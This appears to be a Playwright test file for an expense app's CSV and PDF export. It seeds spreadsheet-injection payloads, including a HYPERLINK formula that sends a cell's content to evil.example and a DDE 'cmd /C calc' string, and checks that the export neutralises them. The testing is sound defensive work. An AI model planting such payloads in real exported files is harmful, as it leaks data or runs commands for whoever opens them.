import { readFile } from 'node:fs/promises'
import type { Page } from '@playwright/test'
import { idToken } from './accounts.ts'
import { hasOffice, hasPoppler, openSpreadsheet, pdfPages } from './office.ts'
import { expect, test } from './product.ts'
import { openSignedIn } from './steps.ts'

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"klik")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  'Nasi "goreng", pedas; dua\nporsi & <b>es teh</b>',
  'Sarapan 🍜 di warung Bu Tini',
] as const

interface Seed {
  readonly description: string
  readonly amount?: number
  readonly currency?: 'IDR' | 'USD'
  readonly category?: string
}

/** Saves expenses of today, the first one first in every list. */
async function seed(origin: string, email: string, expenses: readonly Seed[]): Promise<void> {
  const token = await idToken(origin, email)
  const headers = { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' }
  await fetch(`${origin}/api/auth/login`, { method: 'POST', headers })
  const date = new Date().toLocaleDateString('en-CA', { timeZone: 'Asia/Jakarta' })
  const items = expenses.map(item => ({ amount: 25000, currency: 'IDR', category: 'Other', date, ...item }))
  const body = JSON.stringify({ expenses: items.reverse() })
  const answer = await fetch(`${origin}/api/expenses/batch`, { method: 'POST', headers, body })
  expect(answer.status, await answer.text()).toBe(201)
}

async function openExport(page: Page) {
  await page.getByRole('button', { name: 'Export', exact: true }).click()
  return page.getByRole('dialog', { name: 'Export Expenses' })
}

test('an export that fails says so, keeps the choice and then downloads the CSV', {
  tag: ['@spec-1.9', '@spec-8.11', '@spec-9.25'],
}, async ({ openPhone, product }) => {
  const email = 'csv@example.com'
  await seed(product.url, email, [
    ...HOSTILE.map(description => ({ description })),
    { description: 'Server', amount: 4.5, currency: 'USD', category: 'Business' },
  ])
  const page = await openPhone()
  await openSignedIn(page, email)
  const dialog = await openExport(page)
  await dialog.getByText('CSV').click()
  await page
    .context()
    .route('**/api/expenses?*', route => route.fulfill({ status: 500, json: {} }), { times: 1 })
  await dialog.getByRole('button', { name: 'Export' }).click()
  await expect(dialog.getByRole('alert')).toHaveText('Export failed. Please try again.')
  await expect(dialog.getByRole('radio', { name: 'CSV' })).toBeChecked()

  const downloading = page.waitForEvent('download')
  await dialog.getByRole('button', { name: 'Export' }).click()
  const download = await downloading
  await expect(dialog).toBeHidden()
  expect(download.suggestedFilename()).toMatch(
    /^ucap-expenses-\d{4}-\d\d-\d\d_\d{4}-\d\d-\d\d-\d{8}-\d{6}\.csv$/,
  )
  const path = test.info().outputPath('expenses.csv')
  await download.saveAs(path)
  expect((await readFile(path)).subarray(0, 7).toString('latin1')).toBe('\xEF\xBB\xBFDate')

  expect(hasOffice || !process.env.CI, 'reading the CSV back needs `soffice` (libreoffice-calc)').toBe(true)
  test.skip(!hasOffice, 'no LibreOffice (Debian: libreoffice-calc) to open the CSV with')
  const [header, ...rows] = await openSpreadsheet(path)
  expect(header?.map(({ value }) => value)).toEqual(['Date', 'Description', 'Amount', 'Category'])
  expect(rows.map(row => row.map(({ type }) => type))).toEqual(
    rows.map(() => ['date', 'string', 'float', 'string']),
  )
  expect(rows.flat().filter(({ formula }) => formula)).toEqual([])
  expect(rows.map(row => row.slice(1).map(({ value }) => value))).toEqual([
    // A line break in a description is saved as a space.
    ...HOSTILE.map((text, i) => [i < 4 ? `'${text}` : text.replace('\n', ' '), '25000', 'Other']),
    ['Server', '67500', 'Business'],
  ])
})

test('a report is shown alone, asks to be printed and leaves the page as it was', {
  tag: ['@spec-1.9', '@spec-9.24'],
}, async ({ openPhone, product }) => {
  const email = 'pdf@example.com'
  await seed(product.url, email, [
    { description: '<b>tebal</b> & =1+1', amount: 40_000, category: 'Food & Dining' },
    ...Array.from({ length: 59 }, (_, i) => ({ description: `Parkir ${i + 1}`, amount: 2000 })),
  ])
  const page = await openPhone()
  await page.addInitScript(() => {
    window.print = () => document.documentElement.toggleAttribute('data-printed')
  })
  await openSignedIn(page, email)
  const dialog = await openExport(page)
  await dialog.getByText('All').click()
  await dialog.getByRole('button', { name: 'Export' }).click()
  const report = page.getByRole('dialog', { name: 'Expense Report' })
  await expect(report.getByRole('row')).toHaveCount(61)
  await expect(page.locator('html[data-printed]')).toBeAttached()
  await expect(page.locator('#root')).toHaveAttribute('inert')

  await page.emulateMedia({ media: 'print' })
  for (const part of ['html', 'body'])
    await expect(page.locator(part)).toHaveCSS('background-color', 'rgba(0, 0, 0, 0)')
  await page.emulateMedia({ media: null })

  expect(hasPoppler || !process.env.CI, 'reading the PDF back needs `pdftotext` (poppler-utils)').toBe(true)
  if (hasPoppler) {
    const pages = pdfPages(await page.pdf({ format: 'A4' }))
    expect(pages.length).toBeGreaterThan(1)
    for (const text of pages) expect(text).toMatch(/Date +Description +Category +Amount/)
    const [first = ''] = pages
    expect(first).toMatch(/Total +Transactions +Average per expense\s+Rp158\.000 +60 +Rp2\.633/)
    expect(first).toMatch(/Other 59×.*Rp118\.000\s+74\.7%\s+Food & Dining 1×.*Rp40\.000\s+25\.3%/)
    expect(first).toMatch(/<b>tebal<\/b> & =1\+1 +Food & Dining +Rp40\.000/)
    const whole = pages.join('')
    for (let i = 1; i < 60; i++) expect(whole).toMatch(new RegExp(`Parkir ${i} +Other +Rp2\\.000`))
    expect(whole).not.toContain('Close')
    expect(whole).not.toContain('This month')
  }

  await report.getByRole('button', { name: 'Close' }).click()
  await expect(report).toBeHidden()
  await expect(page.getByRole('button', { name: 'Export', exact: true })).toBeFocused()
})
